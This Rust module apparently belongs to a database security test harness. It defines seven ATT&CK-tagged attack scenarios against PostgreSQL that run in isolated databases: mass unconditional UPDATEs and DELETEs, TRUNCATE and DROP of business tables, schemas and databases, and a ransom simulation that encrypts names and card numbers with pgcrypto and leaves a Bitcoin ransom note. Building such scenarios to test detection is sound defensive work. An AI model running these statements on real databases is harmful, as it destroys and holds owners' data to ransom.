//! Attacks that destroy or hold to ransom what they can reach. Each works in a
//! database of its own.

use crate::error::Result;
use crate::scenario::{Scenario, Stage};

pub(super) fn all() -> Vec<Scenario> {
    vec![
        Scenario::attack(
            "mass_destruction",
            "ten updates without condition and two deletes on a table filled for it",
            updates,
        )
        .technique(&["T1485", "T1565.001"])
        .role("eve_updates", ""),
        Scenario::attack(
            "mass_drop",
            "nine tables are dropped one by one",
            drop_tables,
        )
        .technique(&["T1485"])
        .role("eve_drop", "SUPERUSER")
        .own_shop(),
        Scenario::attack(
            "mass_truncate",
            "seven tables are emptied one by one",
            truncate,
        )
        .technique(&["T1485"])
        .role("eve_truncate", "SUPERUSER")
        .own_shop(),
        Scenario::attack(
            "delete_burst",
            "eight tables are emptied by DELETE without WHERE",
            delete_all,
        )
        .technique(&["T1485"])
        .role("eve_delete", "IN ROLE app_writer")
        .application("webshop")
        .own_shop(),
        Scenario::attack(
            "schema_drop",
            "two business schemas are dropped with everything in them",
            drop_schema,
        )
        .technique(&["T1485"])
        .role("eve_schema", "SUPERUSER")
        .own_shop(),
        Scenario::attack(
            "ransom",
            "customer data is encrypted with pgcrypto, the rest dropped, a note left",
            ransom,
        )
        .technique(&["T1486", "T1485"])
        .role("eve_ransom", "SUPERUSER")
        .own_shop(),
        Scenario::attack(
            "database_drop",
            "two databases of the server are dropped",
            drop_database,
        )
        .technique(&["T1485"])
        .role("eve_database", "CREATEDB")
        .prepare("CREATE TABLE public.archive_note (id int)"),
    ]
}

fn updates(stage: &Stage<'_>) -> Result<()> {
    let mut session = stage.connect()?;
    session.run_each([
        "CREATE TEMP TABLE accounts AS SELECT n AS id, 100 AS balance, 'active' AS state \
         FROM generate_series(1, 500) AS n",
    ])?;
    for n in 1..=10 {
        session.run(&format!(
            "UPDATE accounts SET balance = {n}, state = 'closed'"
        ))?;
    }
    session.run_each([
        "DELETE FROM accounts WHERE id <= 250",
        "DELETE FROM accounts",
    ])
}

fn drop_tables(stage: &Stage<'_>) -> Result<()> {
    const DROPPED: [&str; 9] = [
        "sales.order_line",
        "sales.order_header",
        "sales.credit_card",
        "sales.customer",
        "production.inventory",
        "production.work_order",
        "production.product",
        "purchasing.purchase_order",
        "purchasing.vendor",
    ];
    let mut session = stage.connect()?;
    session.run_each(
        DROPPED
            .iter()
            .map(|table| format!("DROP TABLE {table} CASCADE")),
    )
}

fn truncate(stage: &Stage<'_>) -> Result<()> {
    const EMPTIED: [&str; 7] = [
        "sales.order_line",
        "sales.order_header",
        "sales.credit_card",
        "production.inventory",
        "production.work_order",
        "humanresources.pay_history",
        "purchasing.purchase_order",
    ];
    let mut session = stage.connect()?;
    session.run_each(
        EMPTIED
            .iter()
            .map(|table| format!("TRUNCATE {table} CASCADE")),
    )
}

fn delete_all(stage: &Stage<'_>) -> Result<()> {
    const EMPTIED: [&str; 8] = [
        "sales.order_line",
        "sales.order_header",
        "sales.credit_card",
        "sales.customer",
        "production.inventory",
        "production.work_order",
        "humanresources.pay_history",
        "purchasing.purchase_order",
    ];
    let mut session = stage.connect()?;
    session.run_each(EMPTIED.iter().map(|table| format!("DELETE FROM {table}")))
}

fn drop_schema(stage: &Stage<'_>) -> Result<()> {
    stage.connect()?.run_each([
        "DROP SCHEMA sales CASCADE",
        "DROP SCHEMA humanresources CASCADE",
    ])
}

fn ransom(stage: &Stage<'_>) -> Result<()> {
    stage.connect()?.run_each([
        "CREATE EXTENSION IF NOT EXISTS pgcrypto",
        "CREATE TABLE person.person_locked AS SELECT id, \
         pgp_sym_encrypt(first_name || ' ' || last_name, 'example') AS data \
         FROM person.person WHERE id <= 50",
        "UPDATE sales.credit_card SET card_number = \
         encode(encrypt(card_number::bytea, 'example', 'aes'), 'hex')",
        "DROP TABLE person.person CASCADE",
        "TRUNCATE sales.order_line, sales.order_header CASCADE",
        "CREATE TABLE public.read_me_to_recover_your_data (note text)",
        "INSERT INTO public.read_me_to_recover_your_data VALUES \
         ('All your data is backed up. You must pay 0.01 BTC to example within 48 hours \
         or it will be published and deleted.')",
    ])
}

fn drop_database(stage: &Stage<'_>) -> Result<()> {
    stage.connect()?.run_each([
        "CREATE DATABASE shop_old TEMPLATE template0",
        "CREATE DATABASE shop_archive TEMPLATE template0",
        "DROP DATABASE shop_old",
        "DROP DATABASE shop_archive WITH (FORCE)",
    ])
}
